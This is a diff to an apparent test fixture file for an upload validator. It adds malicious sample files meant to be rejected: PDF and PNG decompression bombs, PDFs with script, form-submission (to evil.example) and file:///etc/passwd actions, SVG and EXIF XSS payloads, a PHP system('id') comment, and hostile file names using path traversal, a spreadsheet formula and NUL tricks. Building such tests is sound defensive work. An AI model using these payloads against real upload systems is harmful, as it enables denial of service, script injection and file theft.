@@ -122,6 +122,65 @@ def pdf_with_hidden_script() -> bytes:
     return b"".join(parts) + xref + b"startxref\n%d\n%%%%EOF\n" % at
 
 
+def pdf_of(*objects: bytes) -> bytes:
+    """A one-page PDF of objects written by hand behind its catalogue, tree and page (numbers 4 and up)."""
+    parts = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+        *objects,
+    ]
+    made, offsets = bytearray(b"%PDF-1.7\n"), []
+    for number, part in enumerate(parts, start=1):
+        offsets.append(len(made))
+        made += b"%d 0 obj\n%s\nendobj\n" % (number, part)
+    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    size = len(parts) + 1
+    made += b"xref\n0 %d\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R >>\n" % (size, table, size)
+    return bytes(made) + b"startxref\n%d\n%%%%EOF\n" % made.index(b"xref\n0 ")
+
+
+def pdf_stream_bomb() -> bytes:
+    """A packed list of objects that unfolds to 400 MB."""
+    packer = zlib.compressobj(9)
+    packed = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(400)) + packer.flush()
+    body = bytes(pdf_with_hidden_script())
+    head, _, rest = body.partition(b"4 0 obj\n")
+    old, _, tail = rest.partition(b"endobj\n")
+    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\n" % (
+        len(packed),
+        packed,
+    )
+    grown = len(stream) - len(old)
+    at = int(tail.partition(b"startxref\n")[2].split(b"\n")[0]) + grown
+    whole = head + b"4 0 obj\n" + stream + b"endobj\n" + tail.partition(b"startxref\n")[0]
+    return whole + b"startxref\n%d\n%%%%EOF\n" % at
+
+
+def animated(kind: str, frames: int = 40) -> bytes:
+    """A picture of many frames."""
+    out = io.BytesIO()
+    more = [Image.new("RGB", (320, 200), (at, at, at)) for at in range(frames)]
+    Image.new("RGB", (320, 200), RED).save(out, kind, save_all=True, append_images=more)
+    return out.getvalue()
+
+
+def png_with(name: bytes, unpacked: int) -> bytes:
+    """A PNG whose chunk ``name`` unfolds to so many bytes."""
+    data = b"x\0\0" + zlib.compress(b"\0" * unpacked, 9)
+    chunk = struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
+    whole = picture("PNG")
+    at = whole.index(b"IDAT") - 4
+    return whole[:at] + chunk + whole[at:]
+
+
+def photo_with_words(words: str) -> bytes:
+    """A JPEG whose EXIF and XMP say ``words``."""
+    exif = Image.Exif()
+    exif[0x010E] = exif[0x013B] = words
+    return picture(exif=exif, xmp=words.encode())
+
+
 def archive(name: str = "word/document.xml") -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as packed:
@@ -155,6 +214,13 @@ BAD_FILES: list[Bad] = [
     Bad("半张.webp", lambda: picture("WEBP", (2000, 1500))[:60], BROKEN, "a WebP cut off"),
     Bad("只有头.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF", BROKEN, "only a JPEG's first bytes"),
     Bad("三字节.jpg", lambda: b"\xff\xd8\xff", BROKEN, "three bytes"),
+    Bad("长条.png", lambda: png_header_only(2**31 - 1, 1), "像素", "a header of two billion pixels in one row"),
+    Bad("零宽.png", lambda: png_header_only(0, 100), BROKEN, "a header without width"),
+    Bad("文字炸弹.png", lambda: png_with(b"zTXt", 80 << 20), BROKEN, "text in a PNG that unfolds to 80 MB"),
+    Bad("色彩炸弹.png", lambda: png_with(b"iCCP", 80 << 20), BROKEN, "a colour profile that unfolds to 80 MB"),
+    Bad("只有签名.png", lambda: b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", BROKEN, "HTML behind a PNG's signature"),
+    Bad("动画.webp", lambda: animated("WEBP"), None, "an animated WebP: its first frame alone"),
+    Bad("动画.png", lambda: animated("PNG"), None, "an animated PNG: its first frame alone"),
     Bad("空.jpg", lambda: b"", "是空文件", "no bytes"),
     Bad("空.pdf", lambda: b"", "是空文件", "no bytes as PDF"),
     Bad("大.jpg", lambda: picture() + b"\0" * (10 * 1024 * 1024 + 1 - len(picture())), "10.1MB", "10 MB and one byte"),
@@ -163,6 +229,11 @@ BAD_FILES: list[Bad] = [
     Bad("网页.pdf", lambda: b"<html><script>alert(1)</script></html>", MISMATCH, "HTML as PDF"),
     Bad("图.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", OTHER, "SVG"),
     Bad("图.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", MISMATCH, "SVG as PNG"),
+    Bad("图.webp", lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", MISMATCH, "SVG as WebP"),
+    Bad("图.pdf", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", MISMATCH, "SVG as PDF"),
+    Bad("图.eps.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(run) exec", MISMATCH, "PostScript as JPEG"),
+    Bad("图.ico.png", lambda: b"\0\0\1\0\1\0" + b"\0" * 90, MISMATCH, "an icon as PNG"),
+    Bad("图.avif.jpg", lambda: b"\0\0\0\x1cftypavif\0\0\0\0mif1avif", MISMATCH, "AVIF as JPEG"),
     Bad("动图.gif", lambda: picture("GIF"), OTHER, "GIF"),
     Bad("动图.jpg", lambda: picture("GIF"), MISMATCH, "GIF as JPEG"),
     Bad("图.bmp", lambda: picture("BMP"), OTHER, "BMP"),
@@ -197,6 +268,15 @@ BAD_FILES: list[Bad] = [
     Bad("外发.pdf", lambda: pdf(_root("/OpenAction", action("/SubmitForm", F="http://evil.example"))), ACTIVE, "sends a form"),
     Bad("表单.pdf", lambda: pdf(_root("/AcroForm", DictionaryObject({NameObject("/XFA"): TextStringObject("x")}))), ACTIVE, "an XFA form"),
     Bad("附件.pdf", lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), ACTIVE, "carries a file"),
+    Bad("网址.pdf", lambda: pdf_of(b"<< /S /URI /URI (JavaScript :alert\\(1\\)) >>"), ACTIVE, "a link that is a script"),
+    Bad("本机.pdf", lambda: pdf_of(b"<< /S /URI /URI (file:///etc/passwd) >>"), ACTIVE, "a link into the reader's machine"),
+    Bad("远程.pdf", lambda: pdf_of(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) >>"), ACTIVE, "opens a file elsewhere"),
+    Bad("内嵌.pdf", lambda: pdf_of(b"<< /S /GoToE /T << /R /C /N (a) >> >>"), ACTIVE, "opens a file that it carries"),
+    Bad("导入.pdf", lambda: pdf_of(b"<< /S /ImportData /F (a.fdf) >>"), ACTIVE, "imports data"),
+    Bad("播放.pdf", lambda: pdf_of(b"<< /S /Rendition /JS (1) >>"), ACTIVE, "plays and runs"),
+    Bad("转义.pdf", lambda: pdf_of(b"<< /S /#4aavaScript /J#53 (1) >>"), ACTIVE, "a script under an escaped name, never referred to"),
+    Bad("对象炸弹.pdf", pdf_stream_bomb, BROKEN, "a list of objects that unfolds to 400 MB"),
+    Bad("嵌套.pdf", lambda: pdf_of(b"[" * 60000 + b"]" * 60000), BROKEN, "60,000 lists in one another"),
     Bad("加密.pdf", lambda: pdf(lambda writer: writer.encrypt("secret")), "密码", "encrypted"),
     Bad("两用.pdf", lambda: pdf() + archive(), ACTIVE, "a PDF and an archive in one"),
     Bad("先网页.pdf", lambda: b"<script>alert(1)</script>" + pdf(), MISMATCH, "HTML before the PDF"),
@@ -204,6 +284,15 @@ BAD_FILES: list[Bad] = [
     Bad("尾巴.png", lambda: picture("PNG") + b"<script>alert(1)</script>", None, "a PNG with HTML behind it"),
     Bad("注释.jpg", lambda: picture(comment=b"<?php system('id'); ?>"), None, "code in a JPEG's comment"),
     Bad("其实是PNG.jpg", lambda: picture("PNG"), None, "a PNG named as JPEG by a phone"),
+    Bad("说明.jpg", lambda: photo_with_words("<script>alert(1)</script>"), None, "a script in EXIF and XMP"),
+    Bad("照片.php.jpg", picture, None, "a second extension in front"),
+    Bad("CON.jpg", picture, None, "the name of a device"),
+    Bad("%2e%2e%2f照片.jpg", picture, None, "a path in the code of addresses"),
+    Bad("<script>alert(1)</script>.jpg", picture, None, "HTML as name, cut at its slash"),
+    Bad("=cmd|' C calc'!A1.jpg", picture, None, "a formula as name"),
+    Bad("../../../etc/passwd", picture, OTHER, "a path out of the folder"),
+    Bad("照片.jpg::$DATA", picture, OTHER, "a stream of a Windows file"),
+    Bad("照片.jpg%00.exe", picture, OTHER, "a coded NUL before another extension"),
     Bad("照片\u202egpj.jpg", picture, UNREADABLE, "an override of the reading direction"),
     Bad("照片\u2066.jpg", picture, UNREADABLE, "an isolate of the reading direction"),
     Bad("照\x00片.jpg", picture, UNREADABLE, "NUL in the name"),
